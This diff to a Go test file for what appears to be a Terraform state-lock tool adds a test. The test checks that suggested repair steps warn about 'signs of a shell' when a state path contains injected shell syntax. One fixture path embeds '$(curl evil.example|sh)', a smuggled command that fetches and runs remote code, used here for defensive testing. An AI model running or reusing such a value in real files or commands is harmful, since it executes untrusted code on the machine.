@@ -4,6 +4,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/lockwarden/lockwarden/pkg/alert"
+	"github.com/lockwarden/lockwarden/pkg/policy"
 	"github.com/lockwarden/lockwarden/pkg/tflock"
 )
 
@@ -13,6 +15,16 @@ func TestNobodyIsAskedToPutQuotationMarksIntoACommand(t *testing.T) {
 		report := pruneReport()
 		report.States[0].Path = path
 		if steps := strings.Join(composer.Prune(report, now).Steps, " "); strings.Contains(steps, "press Restore") != warned {
+			t.Errorf("%s: %s", path, steps)
+		}
+	}
+}
+
+// The same for what the inventory found.
+func TestNobodyIsAskedToPutSignsOfAShellIntoARepair(t *testing.T) {
+	for path, warned := range map[tflock.Path]bool{"states/branches/feature-1/x.tfstate": false, "states/dev/$(curl evil.example|sh)/x.tfstate": true} {
+		e := composer.StateFindings(alert.StateFinding, []policy.StateFinding{{Type: policy.FindingDigestMismatch, Path: path, Severity: policy.SeverityWarning}}, now)
+		if steps := strings.Join(e.Steps, " "); strings.Contains(steps, "signs of a shell") != warned {
 			t.Errorf("%s: %s", path, steps)
 		}
 	}
